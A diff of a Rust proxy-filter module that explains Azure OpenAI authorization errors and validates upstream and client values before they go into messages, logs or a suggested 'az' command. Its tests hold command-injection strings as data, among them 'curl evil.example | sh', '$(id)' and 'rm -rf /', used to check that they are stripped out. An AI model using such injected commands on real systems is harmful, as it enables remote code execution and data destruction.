@@ -1,19 +1,29 @@
 //! Azure OpenAI's authorization failures, made to explain themselves.
 //!
-//! The upstream status and error code are kept, so SDKs behave as before; the
-//! message gains the cause and the fix, and `error` gains structured fields.
-//! The response header is chosen when the headers pass, from what the filter
-//! knows then (status, whether the host matched, whether it sent a token); the
-//! precise diagnosis needs the body and goes into `error.diagnosis`.
+//! Only answers to requests the filter matched are looked at: anything else is
+//! not ours and passes byte for byte. The upstream status and error code are
+//! kept, so SDKs behave as before; the message gains the cause and the fix,
+//! and `error` gains structured fields. The response header is chosen when the
+//! headers pass, from what the filter knows then (the status, whether it sent
+//! a token); the precise diagnosis needs the body and goes into
+//! `error.diagnosis`. A body is held only when it will be rewritten, and never
+//! beyond [`MAX_ERROR_BODY`]; otherwise it is copied as it passes, for the log.
+//!
+//! Everything copied from the upstream body, the token's claims or the
+//! client's `Host` into a message, a log line or a command is validated first
+//! ([`crate::safe`]).
 
 use std::collections::HashMap;
 
 use serde_json::{json, Map, Value};
 
+use crate::agent::Replacement;
 use crate::claims::Claims;
 use crate::config::Config;
 use crate::rewrite::host_without_port as strip_port;
-use crate::upstream::UpstreamFailure;
+use crate::safe;
+use crate::upstream::{UpstreamFailure, MAX_ERROR_BODY};
+use crate::wire;
 
 /// Header codes, chosen from the status and what the filter knows.
 pub mod header {
@@ -41,19 +51,25 @@ pub const GRANTING_ROLES: [&str; 3] = [
     "Cognitive Services User",
 ];
 
-/// What the filter knows about a request when its answer comes back.
+/// Shown where a value from another party did not have the shape it must have.
+pub mod placeholder {
+    pub const PRINCIPAL: &str = "<principal id>";
+    pub const RESOURCE_NAME: &str = "<resource name>";
+    pub const HOST: &str = "<unprintable host>";
+    pub const ACTION: &str = "the data action of this operation";
+}
+
+/// What the filter knows about a request it matched when its answer comes back.
 #[derive(Debug, Clone, Copy)]
 pub struct Facts<'a> {
     /// `:authority` as the application sent it.
     pub host: &'a str,
-    /// The host matched `hosts`, so the key was removed and a token sent.
-    pub matched: bool,
     /// Claims of the token the request carried, if it carried the filter's token.
     pub token: Option<&'a Claims>,
 }
 
-/// The header code for an answer with this status to a request that did or
-/// did not carry the filter's token, or `None` when the filter does not
+/// The header code for an answer with this status to a matched request that
+/// did or did not carry the filter's token, or `None` when the filter does not
 /// explain such an answer.
 pub fn header_code(status: u16, with_token: bool) -> Option<&'static str> {
     match status {
@@ -64,12 +80,120 @@ pub fn header_code(status: u16, with_token: bool) -> Option<&'static str> {
     }
 }
 
-/// May an upstream error body be rewritten? Only JSON that is not compressed:
-/// anything else keeps its bytes and gets the header and a log line only.
-pub fn body_rewritable(content_type: Option<&str>, content_encoding: Option<&str>) -> bool {
-    let json = content_type.is_some_and(|t| t.to_ascii_lowercase().contains("json"));
-    let encoded = content_encoding.is_some_and(|e| !e.trim().eq_ignore_ascii_case("identity"));
-    json && !encoded
+/// How an error body is looked at.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BodyMode {
+    /// Uncompressed JSON of at most [`MAX_ERROR_BODY`] bytes (or of unknown
+    /// length): held until complete and rewritten with the explanation.
+    Rewrite,
+    /// Anything else: never held; the first [`MAX_ERROR_BODY`] bytes are
+    /// copied as they pass, to explain the failure in the log.
+    Observe,
+}
+
+impl BodyMode {
+    /// Choose from the response headers' raw values.
+    pub fn choose(
+        content_type: Option<&[u8]>,
+        content_encoding: Option<&[u8]>,
+        content_length: Option<&[u8]>,
+    ) -> BodyMode {
+        let small = match content_length {
+            None => true,
+            Some(value) => wire::content_length(value).is_some_and(|n| n <= MAX_ERROR_BODY as u64),
+        };
+        if small && wire::is_json(content_type) && wire::is_identity(content_encoding) {
+            BodyMode::Rewrite
+        } else {
+            BodyMode::Observe
+        }
+    }
+}
+
+/// What the glue does with one response body callback.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BodyStep {
+    /// Keep buffering (a body to rewrite, not complete yet).
+    Hold,
+    /// Let this chunk go on.
+    Pass,
+    /// The body is complete: explain it (and rewrite it when `rewrite`).
+    Explain { rewrite: bool },
+}
+
+/// An upstream error answer being looked at, body callback by body callback.
+#[derive(Debug)]
+pub struct Inspection {
+    pub status: u16,
+    pub mode: BodyMode,
+    collected: Vec<u8>,
+    /// Too large to explain: every later chunk just passes.
+    gave_up: bool,
+}
+
+impl Inspection {
+    pub fn new(status: u16, mode: BodyMode) -> Inspection {
+        Inspection {
+            status,
+            mode,
+            collected: Vec::new(),
+            gave_up: false,
+        }
+    }
+
+    /// How many bytes of the body buffer (`size` bytes now) the glue must read
+    /// and hand to [`Inspection::body`].
+    pub fn wants(&self, size: usize, end_of_stream: bool) -> usize {
+        if self.gave_up {
+            return 0;
+        }
+        match self.mode {
+            BodyMode::Rewrite if end_of_stream && size <= MAX_ERROR_BODY => size,
+            BodyMode::Rewrite => 0,
+            BodyMode::Observe => {
+                size.min(MAX_ERROR_BODY + 1 - self.collected.len().min(MAX_ERROR_BODY + 1))
+            }
+        }
+    }
+
+    /// The body callback: `chunk` is what [`Inspection::wants`] asked for,
+    /// `size` the whole buffer.
+    pub fn body(&mut self, chunk: &[u8], size: usize, end_of_stream: bool) -> BodyStep {
+        if self.gave_up {
+            return BodyStep::Pass;
+        }
+        match self.mode {
+            BodyMode::Rewrite => {
+                if size > MAX_ERROR_BODY {
+                    // Larger than any error Azure sends: let it all go, untouched.
+                    self.gave_up = true;
+                    BodyStep::Pass
+                } else if !end_of_stream {
+                    BodyStep::Hold
+                } else {
+                    self.collected = chunk.to_vec();
+                    BodyStep::Explain { rewrite: true }
+                }
+            }
+            BodyMode::Observe => {
+                self.collected.extend_from_slice(chunk);
+                if self.collected.len() > MAX_ERROR_BODY {
+                    self.gave_up = true;
+                    self.collected = Vec::new();
+                    BodyStep::Pass
+                } else if end_of_stream {
+                    BodyStep::Explain { rewrite: false }
+                } else {
+                    BodyStep::Pass
+                }
+            }
+        }
+    }
+
+    /// The body as read, once [`BodyStep::Explain`] was returned.
+    pub fn collected(&self) -> &[u8] {
+        &self.collected
+    }
 }
 
 /// The explanation of one upstream failure.
@@ -81,10 +205,12 @@ pub struct Annotation {
 }
 
 impl Annotation {
-    /// `key=value` pairs for the log line: identities and the fix, no secrets.
+    /// `key=value` pairs for the log line: identities and the fix, no secrets;
+    /// every value was validated when the annotation was made.
     pub fn log_line(&self, status: u16, host: &str) -> String {
         let mut line = format!(
-            "upstream {status} from {host}: diagnosis={} ",
+            "upstream {status} from {}: diagnosis={} ",
+            safe::or(Some(host), safe::host, placeholder::HOST),
             self.diagnosis
         );
         for key in [
@@ -102,41 +228,49 @@ impl Annotation {
     }
 }
 
-/// Explain `failure`. `token_dropped` says whether this answer made the
-/// filter drop its cached token (see `Agent::invalidate`).
+/// The identity in a token's claims, each value validated or left out.
+fn identity_fields(claims: &Claims, fields: &mut Map<String, Value>) {
+    let checked = [
+        ("principal_id", claims.oid.as_deref().and_then(safe::guid)),
+        ("client_id", claims.client_id().and_then(safe::guid)),
+        (
+            "identity_resource_id",
+            claims.xms_mirid.as_deref().and_then(safe::resource_id),
+        ),
+        ("tenant_id", claims.tid.as_deref().and_then(safe::guid)),
+    ];
+    for (key, value) in checked {
+        if let Some(v) = value {
+            fields.insert(key.into(), json!(v));
+        }
+    }
+}
+
+/// Explain `failure`. `replacement` says what became of the token when this
+/// answer rejected it (see `Agent::invalidate`).
 pub fn explain(
     failure: &UpstreamFailure,
     facts: &Facts<'_>,
     config: &Config,
     now_ms: u64,
-    token_dropped: bool,
+    replacement: Option<Replacement>,
 ) -> Annotation {
     let mut fields = Map::new();
     let claims = facts.token.cloned().unwrap_or_default();
-    let identity = |fields: &mut Map<String, Value>| {
-        for (key, value) in [
-            ("principal_id", &claims.oid),
-            ("client_id", &claims.appid.clone().or(claims.azp.clone())),
-            ("identity_resource_id", &claims.xms_mirid),
-            ("tenant_id", &claims.tid),
-        ] {
-            if let Some(v) = value {
-                fields.insert(key.into(), json!(v));
-            }
-        }
-    };
     match failure {
         UpstreamFailure::PermissionDenied {
             principal,
             data_action,
         } => {
-            identity(&mut fields);
-            let oid = principal.clone().or(claims.oid.clone());
-            let who = describe_identity(oid.as_deref(), &claims);
-            let action = data_action
-                .clone()
-                .unwrap_or_else(|| "the data action of this operation".into());
-            let assignee = oid.clone().unwrap_or_else(|| "<principal id>".into());
+            identity_fields(&claims, &mut fields);
+            // The principal Azure names, else the token's own; a GUID or nothing.
+            let oid = principal
+                .as_deref()
+                .and_then(safe::guid)
+                .or_else(|| claims.oid.as_deref().and_then(safe::guid));
+            let who = describe_identity(oid, &claims);
+            let action = safe::or(data_action.as_deref(), safe::data_action, placeholder::ACTION);
+            let assignee = oid.unwrap_or(placeholder::PRINCIPAL);
             let resource = resource_name(facts.host);
             let command = format!(
                 "az role assignment create --assignee-object-id {assignee} --assignee-principal-type ServicePrincipal \
@@ -158,15 +292,18 @@ pub fn explain(
             }
         }
         UpstreamFailure::TokenRejected { expected_audience } => {
-            identity(&mut fields);
+            identity_fields(&claims, &mut fields);
             let now_s = now_ms / 1000;
             let mut wrong = Vec::new();
             // The resource says which audience it accepts; else trust the configuration.
-            let expected = expected_audience.as_deref().unwrap_or(&config.resource);
+            let expected = expected_audience
+                .as_deref()
+                .and_then(safe::audience)
+                .unwrap_or(&config.resource);
             fields.insert("expected_audience".into(), json!(expected));
-            if let Some(aud) = &claims.aud {
+            if let Some(aud) = claims.aud.as_deref().and_then(safe::audience) {
                 fields.insert("token_audience".into(), json!(aud));
-                if aud.trim_end_matches('/') != expected.trim_end_matches('/') {
+                if !crate::token::same_audience(aud, expected) {
                     wrong.push(format!(
                         "the token's audience is \"{aud}\" but this resource accepts \"{expected}\": \
                          set resource to \"{expected}\" (it is \"{}\")",
@@ -199,48 +336,27 @@ pub fn explain(
                     claims
                         .tid
                         .as_deref()
+                        .and_then(safe::guid)
                         .map(|t| format!(" (token tenant {t})"))
                         .unwrap_or_default()
                 ));
             }
-            fields.insert("token_dropped".into(), json!(token_dropped));
-            let action = if token_dropped {
-                "The filter dropped its cached token and is fetching a new one."
-            } else {
-                "The filter keeps its token until the next refresh (it drops a rejected token at most once per invalidation_interval_ms)."
-            };
+            let (state, action) = replacement_text(replacement);
+            fields.insert("token_replacement".into(), json!(state));
             Annotation {
                 diagnosis: diagnosis::TOKEN_REJECTED,
                 explanation: format!("Azure OpenAI did not accept the token: {}. {action}", wrong.join("; ")),
                 fields,
             }
         }
-        UpstreamFailure::KeyAuthDisabled => {
-            let host = strip_port(facts.host);
-            fields.insert("host".into(), json!(host));
-            let patterns: Vec<String> = config.hosts.patterns().iter().map(|p| p.to_string()).collect();
-            fields.insert("hosts".into(), json!(patterns));
-            let explanation = if facts.matched {
-                "the request left with a key although its host matches `hosts`: another filter or the route \
-                 adds the api-key after aoai-msi-filter. Place aoai-msi-filter after any filter that sets \
-                 headers, right before the router."
-                    .to_owned()
-            } else {
-                format!(
-                    "the api-key went through because the host \"{host}\" is not in the filter's hosts [{}], so \
-                     the filter did not replace it. Add \"{host}\"{} to hosts.",
-                    patterns.join(", "),
-                    suffix_pattern(host)
-                        .map(|p| format!(" (or \"{p}\")"))
-                        .unwrap_or_default()
-                )
-            };
-            Annotation {
-                diagnosis: diagnosis::KEY_AUTH_DISABLED,
-                explanation,
-                fields,
-            }
-        }
+        UpstreamFailure::KeyAuthDisabled => Annotation {
+            diagnosis: diagnosis::KEY_AUTH_DISABLED,
+            explanation: "the request left with a key although the filter matched it and removed its \
+                          api-key: another filter or the route adds the api-key after aoai-msi-filter. Place \
+                          aoai-msi-filter after any filter that sets headers, right before the router."
+                .to_owned(),
+            fields,
+        },
         UpstreamFailure::NetworkRule => Annotation {
             diagnosis: diagnosis::NETWORK_RULE,
             explanation: "this is not an identity problem: the resource's networking rules (firewall, virtual \
@@ -255,10 +371,42 @@ pub fn explain(
                 "this is not an identity problem: Entra ID tokens are accepted only on the resource's custom \
                  subdomain (https://<resource>.openai.azure.com), not on \"{}\". Point the application at the \
                  custom subdomain endpoint.",
-                strip_port(facts.host)
+                safe::or(Some(strip_port(facts.host)), safe::host, placeholder::HOST)
             ),
             fields,
         },
+    }
+}
+
+/// `token_replacement` and the sentence that says what the filter does.
+fn replacement_text(replacement: Option<Replacement>) -> (&'static str, String) {
+    match replacement {
+        Some(Replacement::Requested) | Some(Replacement::Pending) => (
+            "requested",
+            "The filter is fetching one replacement token; the current one serves until it arrives."
+                .to_owned(),
+        ),
+        Some(Replacement::SameTokenReturned { again_in_ms }) => (
+            "same_token_returned",
+            format!(
+                "Asked for a new token, the token endpoint returned the same one (managed identity endpoints \
+                 cache tokens for hours), so refetching cannot help: fix the cause above. The filter asks again \
+                 in {} s.",
+                again_in_ms.div_ceil(1000)
+            ),
+        ),
+        Some(Replacement::RateLimited { again_in_ms }) => (
+            "rate_limited",
+            format!(
+                "The filter asked for a new token less than invalidation_interval_ms ago; it asks again in {} s.",
+                again_in_ms.div_ceil(1000)
+            ),
+        ),
+        Some(Replacement::AlreadyReplaced) => (
+            "already_replaced",
+            "The filter has a newer token already; retry the request.".to_owned(),
+        ),
+        None => ("none", "The request did not carry the filter's token.".to_owned()),
     }
 }
 
@@ -267,11 +415,11 @@ fn describe_identity(oid: Option<&str>, claims: &Claims) -> String {
     if let Some(oid) = oid {
         parts.push(format!("principal id {oid}"));
     }
-    if let Some(client) = claims.client_id() {
+    if let Some(client) = claims.client_id().and_then(safe::guid) {
         parts.push(format!("client id {client}"));
     }
-    if let Some(mirid) = &claims.xms_mirid {
-        parts.push(mirid.clone());
+    if let Some(mirid) = claims.xms_mirid.as_deref().and_then(safe::resource_id) {
+        parts.push(mirid.to_owned());
     }
     if parts.is_empty() {
         "identity unknown".to_owned()
@@ -290,24 +438,20 @@ const RESOURCE_SUFFIXES: [&str; 5] = [
 ];
 
 /// `myres.openai.azure.com` → `myres`; a host that is not a resource's own
-/// name (an IP, `localhost` in a sidecar setup) names no resource.
+/// name (an IP, `localhost`, anything that is not one DNS label before a known
+/// suffix) names no resource. The result goes into a shell command.
 fn resource_name(host: &str) -> &str {
     let host = strip_port(host);
+    let host = host.strip_suffix('.').unwrap_or(host);
     RESOURCE_SUFFIXES
         .iter()
-        .find_map(|suffix| host.strip_suffix(suffix))
-        .filter(|name| !name.is_empty() && !name.contains('.'))
-        .unwrap_or("<resource name>")
-}
-
-/// `myres.openai.azure.com` → `*.openai.azure.com`; nothing for IP addresses
-/// and short names.
-fn suffix_pattern(host: &str) -> Option<String> {
-    if host.parse::<std::net::IpAddr>().is_ok() || host.starts_with('[') {
-        return None;
-    }
-    let (_, rest) = host.split_once('.')?;
-    rest.contains('.').then(|| format!("*.{rest}"))
+        .find_map(|suffix| {
+            let cut = host.len().checked_sub(suffix.len())?;
+            let (name, tail) = (host.get(..cut)?, host.get(cut..)?);
+            tail.eq_ignore_ascii_case(suffix).then_some(name)
+        })
+        .and_then(safe::dns_label)
+        .unwrap_or(placeholder::RESOURCE_NAME)
 }
 
 /// Rewrite an upstream JSON error body: keep its code, extend its message,
@@ -364,7 +508,7 @@ impl LogLimiter {
 
     pub fn allow(&mut self, diagnosis: &'static str, now_ms: u64) -> bool {
         match self.last.get(diagnosis) {
-            Some(last) if now_ms < last + Self::INTERVAL_MS => false,
+            Some(last) if now_ms < last + Self::INTERVAL_MS && *last <= now_ms => false,
             _ => {
                 self.last.insert(diagnosis, now_ms);
                 true
@@ -378,14 +522,19 @@ mod tests {
     use super::*;
 
     const NOW_MS: u64 = 1_763_752_300_000;
+    const OID: &str = "0b5e7c4a-0000-4000-8000-0000000000a1";
+    const CLIENT: &str = "a1b2c3d4-0000-4000-8000-000000000001";
+    const TENANT: &str = "72f988bf-0000-4000-8000-00000000e1a0";
+    const MIRID: &str =
+        "/subscriptions/s/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1";
 
     fn claims() -> Claims {
         Claims {
             aud: Some("https://cognitiveservices.azure.com".into()),
-            tid: Some("tenant-1".into()),
-            oid: Some("0b5e7c4a".into()),
-            appid: Some("a1b2c3d4".into()),
-            xms_mirid: Some("/subscriptions/s/rg/vm1".into()),
+            tid: Some(TENANT.into()),
+            oid: Some(OID.into()),
+            appid: Some(CLIENT.into()),
+            xms_mirid: Some(MIRID.into()),
             exp: Some(NOW_MS / 1000 + 3600),
             nbf: Some(NOW_MS / 1000 - 10),
             ..Claims::default()
@@ -395,10 +544,29 @@ mod tests {
     fn matched(claims: &Claims) -> Facts<'_> {
         Facts {
             host: "myres.openai.azure.com",
-            matched: true,
             token: Some(claims),
         }
     }
+
+    fn role_missing(principal: &str, action: &str, host: &str) -> Annotation {
+        let c = claims();
+        explain(
+            &UpstreamFailure::PermissionDenied {
+                principal: Some(principal.into()),
+                data_action: Some(action.into()),
+            },
+            &Facts {
+                host,
+                token: Some(&c),
+            },
+            &Config::default(),
+            NOW_MS,
+            None,
+        )
+    }
+
+    const CHAT_ACTION: &str =
+        "Microsoft.CognitiveServices/accounts/OpenAI/deployments/chat/completions/action";
 
     #[test]
     fn header_codes_follow_status_and_what_the_filter_sent() {
@@ -418,25 +586,15 @@ mod tests {
 
     #[test]
     fn role_missing_names_the_identity_the_roles_and_the_command() {
-        let c = claims();
-        let a = explain(
-            &UpstreamFailure::PermissionDenied {
-                principal: Some("0b5e7c4a".into()),
-                data_action: Some("Microsoft.CognitiveServices/accounts/OpenAI/deployments/chat/completions/action".into()),
-            },
-            &matched(&c),
-            &Config::default(),
-            NOW_MS,
-            false,
-        );
+        let a = role_missing(OID, CHAT_ACTION, "myres.openai.azure.com");
         assert_eq!(a.diagnosis, diagnosis::ROLE_MISSING);
         for needle in [
-            "principal id 0b5e7c4a",
-            "client id a1b2c3d4",
-            "/subscriptions/s/rg/vm1",
+            &format!("principal id {OID}"),
+            &format!("client id {CLIENT}"),
+            MIRID,
             "Cognitive Services OpenAI User",
             "Cognitive Services Contributor has no data actions",
-            "az role assignment create --assignee-object-id 0b5e7c4a",
+            &format!("az role assignment create --assignee-object-id {OID}"),
             "--name myres",
             "minutes to hours",
             "chat/completions/action",
@@ -447,7 +605,7 @@ mod tests {
                 a.explanation
             );
         }
-        assert_eq!(a.fields["principal_id"], "0b5e7c4a");
+        assert_eq!(a.fields["principal_id"], OID);
         assert_eq!(
             a.fields["roles_that_grant_it"][0],
             "Cognitive Services OpenAI User"
@@ -455,7 +613,86 @@ mod tests {
     }
 
     #[test]
-    fn rejected_token_says_which_claim_is_wrong() {
+    fn hostile_text_never_reaches_the_suggested_command() {
+        // What an upstream body and a client's Host could put there.
+        let a = role_missing(
+            "x`; curl evil.example | sh`",
+            "Microsoft.X/$(id)/action",
+            "$(id).openai.azure.com",
+        );
+        let command = a.fields["fix_command"].as_str().unwrap();
+        for bad in ["`", "$(id)", "curl", "evil"] {
+            assert!(
+                !command.replace("$(az ", "").contains(bad),
+                "{bad}: {command}"
+            );
+        }
+        for bad in ["$(id)", "curl", "evil"] {
+            assert!(!a.explanation.contains(bad), "{bad}: {}", a.explanation);
+        }
+        // The token's own principal stands in for the unusable one.
+        assert!(
+            command.contains(&format!("--assignee-object-id {OID}")),
+            "{command}"
+        );
+        assert!(command.contains("--name <resource name>"), "{command}");
+        assert_eq!(a.fields["data_action"], placeholder::ACTION);
+        // With no usable principal anywhere, a placeholder.
+        let c = Claims::default();
+        let a = explain(
+            &UpstreamFailure::PermissionDenied {
+                principal: Some("not-a-guid".into()),
+                data_action: None,
+            },
+            &Facts {
+                host: "myres.openai.azure.com",
+                token: Some(&c),
+            },
+            &Config::default(),
+            NOW_MS,
+            None,
+        );
+        assert!(a.fields["fix_command"]
+            .as_str()
+            .unwrap()
+            .contains("--assignee-object-id <principal id>"));
+    }
+
+    #[test]
+    fn claims_that_are_not_what_they_claim_to_be_are_left_out() {
+        let mut c = claims();
+        c.oid = Some("$(id)".into());
+        c.appid = Some("a\nb".into());
+        c.xms_mirid = Some("/subscriptions/x; rm -rf /".into());
+        c.tid = Some("evil".into());
+        let a = explain(
+            &UpstreamFailure::TokenRejected {
+                expected_audience: Some("https://x\" || id".into()),
+            },
+            &matched(&c),
+            &Config::default(),
+            NOW_MS,
+            Some(Replacement::Requested),
+        );
+        for key in [
+            "principal_id",
+            "client_id",
+            "identity_resource_id",
+            "tenant_id",
+        ] {
+            assert!(!a.fields.contains_key(key), "{key}: {:?}", a.fields);
+        }
+        assert_eq!(
+            a.fields["expected_audience"],
+            "https://cognitiveservices.azure.com"
+        );
+        let line = a.log_line(401, "$(id).openai.azure.com\r\nx");
+        assert!(!line.contains("$(id)") && !line.contains('\n'), "{line}");
+        assert!(line.contains(placeholder::HOST), "{line}");
+    }
+
+    #[test]
+    fn rejected_token_says_which_claim_is_wrong_and_that_a_replacement_comes() {
         let mut c = claims();
         c.aud = Some("https://management.azure.com".into());
         c.exp = Some(NOW_MS / 1000 - 30);
@@ -463,7 +700,13 @@ mod tests {
         let rejected = UpstreamFailure::TokenRejected {
             expected_audience: Some("https://cognitiveservices.azure.com".into()),
         };
-        let a = explain(&rejected, &matched(&c), &config, NOW_MS, true);
+        let a = explain(
+            &rejected,
+            &matched(&c),
+            &config,
+            NOW_MS,
+            Some(Replacement::Requested),
+        );
         assert_eq!(a.diagnosis, diagnosis::TOKEN_REJECTED);
         assert!(
             a.explanation.contains(
@@ -477,8 +720,35 @@ mod tests {
             "{}",
             a.explanation
         );
-        assert!(a.explanation.contains("dropped its cached token"));
-        assert_eq!(a.fields["token_dropped"], true);
+        assert!(a.explanation.contains("fetching one replacement token"));
+        assert_eq!(a.fields["token_replacement"], "requested");
+    }
+
+    #[test]
+    fn the_same_token_coming_back_is_said_plainly() {
+        let c = claims();
+        let a = explain(
+            &UpstreamFailure::TokenRejected {
+                expected_audience: None,
+            },
+            &matched(&c),
+            &Config::default(),
+            NOW_MS,
+            Some(Replacement::SameTokenReturned {
+                again_in_ms: 41_500,
+            }),
+        );
+        assert_eq!(a.fields["token_replacement"], "same_token_returned");
+        assert!(
+            a.explanation.contains("returned the same one"),
+            "{}",
+            a.explanation
+        );
+        assert!(
+            a.explanation.contains("asks again in 42 s"),
+            "{}",
+            a.explanation
+        );
     }
 
     #[test]
@@ -491,60 +761,46 @@ mod tests {
             &matched(&c),
             &Config::default(),
             NOW_MS,
-            false,
+            Some(Replacement::RateLimited { again_in_ms: 1_000 }),
         );
         assert!(
             a.explanation.contains("signature or tenant"),
             "{}",
             a.explanation
         );
-        assert!(a.explanation.contains("tenant-1"));
+        assert!(a.explanation.contains(TENANT));
         assert!(a
             .explanation
-            .contains("at most once per invalidation_interval_ms"));
+            .contains("less than invalidation_interval_ms ago"));
     }
 
     #[test]
-    fn a_key_on_an_unlisted_host_says_which_host_to_add() {
-        let facts = Facts {
-            host: "other.openai.azure.com:443",
-            matched: false,
-            token: None,
-        };
-        let config = Config::parse(br#"{"hosts":["myres.openai.azure.com"]}"#).unwrap();
+    fn a_key_reaching_azure_on_a_matched_request_points_at_a_later_filter() {
         let a = explain(
             &UpstreamFailure::KeyAuthDisabled,
-            &facts,
-            &config,
+            &Facts {
+                host: "myres.openai.azure.com",
+                token: None,
+            },
+            &Config::default(),
             NOW_MS,
-            false,
+            None,
         );
         assert_eq!(a.diagnosis, diagnosis::KEY_AUTH_DISABLED);
         assert!(
-            a.explanation.contains(
-                "\"other.openai.azure.com\" is not in the filter's hosts [myres.openai.azure.com]"
-            ),
-            "{}",
-            a.explanation
-        );
-        assert!(
-            a.explanation.contains("(or \"*.openai.azure.com\")"),
+            a.explanation.contains("right before the router"),
             "{}",
             a.explanation
         );
     }
 
     #[test]
-    fn ip_addresses_get_no_wildcard_and_name_no_resource() {
-        assert_eq!(suffix_pattern("127.0.0.1"), None);
-        assert_eq!(suffix_pattern("localhost"), None);
-        assert_eq!(
-            suffix_pattern("other.openai.azure.com").as_deref(),
-            Some("*.openai.azure.com")
-        );
+    fn only_a_resources_own_name_names_a_resource() {
         assert_eq!(resource_name("127.0.0.1:10000"), "<resource name>");
         assert_eq!(resource_name("myres.openai.azure.com:443"), "myres");
+        assert_eq!(resource_name("MyRes.OpenAI.Azure.com."), "MyRes");
         assert_eq!(resource_name("proj.services.ai.azure.com"), "proj");
+        assert_eq!(resource_name("a.b.openai.azure.com"), "<resource name>");
         assert_eq!(
             resource_name("openai.azure.com.evil.example"),
             "<resource name>"
@@ -558,7 +814,7 @@ mod tests {
             UpstreamFailure::NetworkRule,
             UpstreamFailure::SubdomainRequired,
         ] {
-            let a = explain(&failure, &matched(&c), &Config::default(), NOW_MS, false);
+            let a = explain(&failure, &matched(&c), &Config::default(), NOW_MS, None);
             assert!(
                 a.explanation.starts_with("this is not an identity problem"),
                 "{}",
@@ -575,7 +831,7 @@ mod tests {
             &matched(&c),
             &Config::default(),
             NOW_MS,
-            false,
+            None,
         );
         let original = br#"{"error":{"code":"403","message":"Access denied due to Virtual Network/Firewall rules."}}"#;
         let body: Value = serde_json::from_str(&annotated_body(original, &a).unwrap()).unwrap();
@@ -594,7 +850,7 @@ mod tests {
             &matched(&c),
             &Config::default(),
             NOW_MS,
-            false,
+            None,
         );
         let body: Value = serde_json::from_str(&annotated_body(gateway, &a).unwrap()).unwrap();
         assert_eq!(body["statusCode"], 401, "the original shape stays");
@@ -628,6 +884,7 @@ mod tests {
             code::TOKEN_ENDPOINT_UNREACHABLE,
             code::TOKEN_ENDPOINT_CLUSTER_MISSING,
             code::TOKEN_RESPONSE_INVALID,
+            code::TOKEN_AUDIENCE_MISMATCH,
             code::TOKEN_WAIT_TIMEOUT,
         ];
         for code in codes.iter().chain(local.iter()) {
@@ -636,15 +893,74 @@ mod tests {
     }
 
     #[test]
-    fn only_uncompressed_json_bodies_are_rewritten() {
-        assert!(body_rewritable(Some("application/json"), None));
-        assert!(body_rewritable(
-            Some("application/json; charset=utf-8"),
-            Some("identity")
-        ));
-        assert!(!body_rewritable(Some("application/json"), Some("gzip")));
-        assert!(!body_rewritable(Some("text/plain"), None));
-        assert!(!body_rewritable(None, None));
+    fn only_small_uncompressed_json_bodies_are_held_for_rewriting() {
+        let json = Some(&b"application/json; charset=utf-8"[..]);
+        assert_eq!(
+            BodyMode::choose(json, None, Some(b"120")),
+            BodyMode::Rewrite
+        );
+        assert_eq!(
+            BodyMode::choose(json, Some(b"identity"), None),
+            BodyMode::Rewrite
+        );
+        assert_eq!(
+            BodyMode::choose(json, Some(b"gzip"), Some(b"120")),
+            BodyMode::Observe
+        );
+        assert_eq!(
+            BodyMode::choose(Some(b"text/plain"), None, Some(b"12")),
+            BodyMode::Observe
+        );
+        assert_eq!(BodyMode::choose(None, None, None), BodyMode::Observe);
+        assert_eq!(
+            BodyMode::choose(json, None, Some(b"2097152")),
+            BodyMode::Observe
+        );
+        assert_eq!(
+            BodyMode::choose(json, None, Some(b"12\xff")),
+            BodyMode::Observe
+        );
+        assert_eq!(
+            BodyMode::choose(Some(b"application/json\xff"), None, Some(b"12")),
+            BodyMode::Observe
+        );
+    }
+
+    #[test]
+    fn a_body_to_rewrite_is_held_until_complete_and_released_past_the_bound() {
+        let mut i = Inspection::new(401, BodyMode::Rewrite);
+        assert_eq!(i.wants(100, false), 0);
+        assert_eq!(i.body(b"", 100, false), BodyStep::Hold);
+        assert_eq!(i.wants(200, true), 200);
+        assert_eq!(
+            i.body(b"{}", 200, true),
+            BodyStep::Explain { rewrite: true }
+        );
+        assert_eq!(i.collected(), b"{}");
+        // A body of unknown length that grows past the bound: let go, untouched.
+        let mut i = Inspection::new(403, BodyMode::Rewrite);
+        assert_eq!(i.body(b"", 4_000, false), BodyStep::Hold);
+        assert_eq!(i.body(b"", MAX_ERROR_BODY + 1, false), BodyStep::Pass);
+        assert_eq!(i.wants(MAX_ERROR_BODY + 9, true), 0);
+        assert_eq!(i.body(b"", MAX_ERROR_BODY + 9, true), BodyStep::Pass);
+    }
+
+    #[test]
+    fn an_observed_body_is_never_held_and_copied_only_up_to_the_bound() {
+        let mut i = Inspection::new(401, BodyMode::Observe);
+        assert_eq!(i.wants(10, false), 10);
+        assert_eq!(i.body(b"{\"error\":", 10, false), BodyStep::Pass);
+        assert_eq!(
+            i.body(b"{}}", 3, true),
+            BodyStep::Explain { rewrite: false }
+        );
+        assert_eq!(i.collected(), b"{\"error\":{}}");
+        let mut big = Inspection::new(403, BodyMode::Observe);
+        assert_eq!(big.wants(2 << 20, false), MAX_ERROR_BODY + 1);
+        let chunk = vec![b' '; MAX_ERROR_BODY + 1];
+        assert_eq!(big.body(&chunk, 2 << 20, false), BodyStep::Pass);
+        assert_eq!(big.wants(2 << 20, true), 0);
+        assert_eq!(big.body(b"", 2 << 20, true), BodyStep::Pass);
     }
 
     #[test]
@@ -657,24 +973,16 @@ mod tests {
             "each diagnosis has its own budget"
         );
         assert!(limiter.allow(diagnosis::ROLE_MISSING, 10_000));
+        // A clock that stepped back does not silence a diagnosis for long.
+        assert!(limiter.allow(diagnosis::ROLE_MISSING, 5_000));
     }
 
     #[test]
     fn log_lines_carry_identity_and_fix_but_nothing_secret() {
-        let c = claims();
-        let a = explain(
-            &UpstreamFailure::PermissionDenied {
-                principal: Some("0b5e7c4a".into()),
-                data_action: None,
-            },
-            &matched(&c),
-            &Config::default(),
-            NOW_MS,
-            false,
-        );
+        let a = role_missing(OID, CHAT_ACTION, "myres.openai.azure.com");
         let line = a.log_line(401, "myres.openai.azure.com");
         assert!(line.contains("diagnosis=RoleMissing"));
-        assert!(line.contains("principal_id=0b5e7c4a"));
+        assert!(line.contains(&format!("principal_id={OID}")));
         assert!(line.contains("az role assignment create"));
     }
 }
